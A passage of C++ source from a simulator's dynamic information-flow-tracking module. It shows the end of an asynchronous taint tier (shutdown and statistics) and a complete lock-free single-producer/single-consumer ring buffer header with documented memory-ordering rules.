                             << (8 * i);
                }
                MemFault fault = mem_->write(base + word * 8, 8, value);
                SHIFT_ASSERT(fault == MemFault::None);
                ++materializedWords_;
            }
        }
    }
}

const Violation *
AsyncTaintTier::shutdown()
{
    if (!running_)
        return violated_.load(std::memory_order_acquire)
                   ? pendingViolation()
                   : nullptr;
    const Violation *v = fence();
    stop_.store(true, std::memory_order_release);
    if (!inlineMode_)
        consumer_.join();
    running_ = false;
    return v;
}

void
AsyncTaintTier::statInto(StatSet &stats) const
{
    stats.add("dift.events", eventsPushed());
    stats.setGauge("dift.consumer.inline", inlineMode_ ? 1 : 0);
    stats.add("dift.fences", fences_);
    stats.add("dift.fence.waitSpins", fenceWaitSpins_);
    stats.add("dift.fence.waitNs", fenceWaitNs_);
    stats.add("dift.ring.stalls", stalls_);
    stats.add("dift.ring.stallSpins", stallSpins_);
    stats.add("dift.materialized.words", materializedWords_);
    stats.setGauge("dift.ring.capacity", ring_.capacity());
    if (violated_.load(std::memory_order_acquire))
        stats.add("dift.violations");
    if (detectLatencyValid_)
        stats.record("dift.lag.detect.ns", detectLatencyNs_);
    stats.mergeHistogram("dift.ring.depth", depthHist_);
    stats.mergeHistogram("dift.fence.lag.events", fenceLagHist_);
    // Only valid after shutdown() joined the consumer (the machine
    // folds stats after the run, so the contract holds in practice).
    if (profiled_ && consumerActiveNs_)
        stats.add("prof.aux.async-consumer.nanos", consumerActiveNs_);
}

} // namespace shift::dift
