/**
 * @file
 * A bounded single-producer/single-consumer ring for trace events.
 *
 * Same power-of-two mask-indexed layout as the flight recorder's
 * TraceBuffer (obs/trace.hh), but where the recorder overwrites its
 * oldest event, this ring is *lossless*: when full, the producer
 * blocks (spin + yield) until the consumer frees a slot, and every
 * blocked spin is counted — that backpressure number is a first-class
 * statistic of the async tier (dift.ring.stallSpins), because a
 * saturated ring is exactly the regime where the decoupled model
 * stops being free.
 *
 * Synchronization contract (TSan-verified by tests/test_dift.cc):
 *  - exactly one producer thread calls push()/publish(),
 *  - exactly one consumer thread calls consume(),
 *  - head_ is published with release stores and read by the consumer
 *    with acquire loads (slot contents ride that edge); tail_ the
 *    mirror image. Both sides keep a cached copy of the other index
 *    so the hot path touches no shared cache line until it must.
 *
 * The producer batches head publication (publish() every K events or
 * at a fence) so the common case is two plain stores per event.
 */

#ifndef SHIFT_DIFT_SPSC_RING_HH
#define SHIFT_DIFT_SPSC_RING_HH

#include <atomic>
#include <cstdint>
#include <thread>
#include <vector>

namespace shift::dift
{

template <typename T>
class SpscRing
{
  public:
    /** Capacity is rounded up to a power of two (min 64). */
    explicit SpscRing(size_t capacity)
    {
        size_t cap = 64;
        while (cap < capacity)
            cap <<= 1;
        ring_.resize(cap);
        mask_ = cap - 1;
    }

    size_t capacity() const { return mask_ + 1; }

    // ----- producer side ------------------------------------------------

    /**
     * Append one event, blocking while the ring is full. Returns the
     * number of blocked spin iterations (0 on the fast path).
     */
    uint64_t
    push(const T &item)
    {
        uint64_t spins = 0;
        if (localHead_ - cachedTail_ > mask_) {
            cachedTail_ = tail_.load(std::memory_order_acquire);
            while (localHead_ - cachedTail_ > mask_) {
                // Full: the consumer is behind. Publish what we have
                // so it can make progress, then wait.
                publish();
                ++spins;
                if ((spins & 0x3f) == 0)
                    std::this_thread::yield();
                cachedTail_ = tail_.load(std::memory_order_acquire);
            }
        }
        ring_[localHead_ & mask_] = item;
        ++localHead_;
        return spins;
    }

    /** Make every pushed event visible to the consumer. */
    void publish() { head_.store(localHead_, std::memory_order_release); }

    /** Events pushed so far (producer-local, exact). */
    uint64_t pushed() const { return localHead_; }

    /**
     * Producer-side view of the ring depth (events in flight). Uses
     * the cached tail, refreshed at most once: a sampling statistic,
     * not a synchronization primitive.
     */
    uint64_t
    depth()
    {
        cachedTail_ = tail_.load(std::memory_order_acquire);
        return localHead_ - cachedTail_;
    }

    /** Consumer progress as the producer sees it (acquire). */
    uint64_t
    consumed() const
    {
        return tail_.load(std::memory_order_acquire);
    }

    // ----- consumer side ------------------------------------------------

    /**
     * Drain everything currently published through `fn(const T &)`.
     * Returns the number of events consumed. The tail is published
     * once per batch.
     */
    template <typename Fn>
    uint64_t
    consume(Fn &&fn)
    {
        uint64_t avail = head_.load(std::memory_order_acquire);
        uint64_t tail = localTail_;
        while (tail < avail) {
            fn(ring_[tail & mask_]);
            ++tail;
        }
        uint64_t n = tail - localTail_;
        if (n) {
            localTail_ = tail;
            tail_.store(tail, std::memory_order_release);
        }
        return n;
    }

  private:
    std::vector<T> ring_;
    uint64_t mask_ = 0;

    // Producer-owned.
    alignas(64) uint64_t localHead_ = 0;
    uint64_t cachedTail_ = 0;
    // Consumer-owned.
    alignas(64) uint64_t localTail_ = 0;
    // Shared.
    alignas(64) std::atomic<uint64_t> head_{0};
    alignas(64) std::atomic<uint64_t> tail_{0};
};

} // namespace shift::dift

#endif // SHIFT_DIFT_SPSC_RING_HH
